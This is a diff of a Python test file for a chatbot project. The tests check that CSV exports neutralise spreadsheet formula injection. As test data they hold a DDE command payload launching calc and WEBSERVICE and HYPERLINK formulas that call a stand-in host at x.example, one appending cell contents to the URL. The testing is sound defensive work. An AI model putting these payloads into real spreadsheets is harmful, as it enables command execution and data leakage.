@@ -11,17 +11,17 @@ import sqlite3
 from collections import Counter
 
 import pytest
+from conftest import BACKENDS
 from sqlalchemy import select
 
 from bot import cli, report
+from bot.feedback.store import record
 from bot.kb import models as m
 from bot.kb.db import create_schema, get_engine, open_session
 from bot.kb.event_csv import EVENT_COLUMNS, export_events
 from bot.kb.faq import FAQ_COLUMNS, export_faq_csv
-from bot.kb.feedback import record
 from bot.kb.loader import load_files
 from bot.kb.spreadsheet import FORMULA_STARTS, neutralise, restore
-from conftest import BACKENDS
 
 PAYLOADS = ["=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(1)", "\t=1", "\r=1"]
 QUOTED = ["'=already quoted", "''@twice", "'", "'plain", "-", "＝全角"]  # must survive the round trip too
@@ -115,8 +115,10 @@ def test_faq_export_load_export_is_identical_with_formula_texts(two_empty_dbs, t
 def _assembly(number: int, text: str) -> m.Assembly:
     a = m.Assembly(number=number, name=text, name_kana="", start_date=dt.date(2019, 2, 6), end_date=dt.date(2019, 2, 6),
                    description=text, venue=f"会場{number}", address=text, organizer=text, url="", source="test")
-    a.event_fields = [m.AssemblyEventField(column="備考", value=text), m.AssemblyEventField(column="緯度", value="-35.6"),
-                      m.AssemblyEventField(column="経度", value="-139.7"), m.AssemblyEventField(column="料金(基本)", value="-")]
+    a.event_fields = [m.AssemblyEventField(column="備考", value=text),
+                      m.AssemblyEventField(column="緯度", value="-35.6"),
+                      m.AssemblyEventField(column="経度", value="-139.7"),
+                      m.AssemblyEventField(column="料金(基本)", value="-")]
     return a
 
 
@@ -175,7 +177,8 @@ def test_report_cli_csv_of_a_store_with_hostile_texts_and_channel(tmp_path, caps
             conn.execute("INSERT INTO events (sender_id, type_name, timestamp, intent_name, action_name, data)"
                          " VALUES (?, 'user', ?, ?, NULL, ?)", (f"s{i}", 1.7e9 + i, "@intent", data))
     feedback_db = f"sqlite:///{tmp_path / 'kb.sqlite3'}"
-    record(sender_id="s9", channel="-1+2", question='@WEBSERVICE("http://x.example/")', answer="a", intent="x", confidence=0.5,
+    record(sender_id="s9", channel="-1+2", question='@WEBSERVICE("http://x.example/")', answer="a", intent="x",
+           confidence=0.5,
            source="", rating="bad", url=feedback_db)
     out = tmp_path / "report.csv"
     assert cli.main(["--db", feedback_db, "report", "--tracker-db", f"sqlite:///{tracker}", "--format", "csv",
@@ -183,7 +186,8 @@ def test_report_cli_csv_of_a_store_with_hostile_texts_and_channel(tmp_path, caps
     rows = cells(out.read_text(encoding="utf-8"))
     assert_no_formula_cell(rows)
     written = {restore(cell) for row in rows for cell in row}
-    assert {p.strip() for p in PAYLOADS} | {'@WEBSERVICE("http://x.example/")', "@intent", "=HYPERLINK(\"http://x.example/?\"&A1)"} <= written
+    assert {p.strip() for p in PAYLOADS} | {
+        '@WEBSERVICE("http://x.example/")', "@intent", "=HYPERLINK(\"http://x.example/?\"&A1)"} <= written
     assert capsys.readouterr().err == ""
 
 
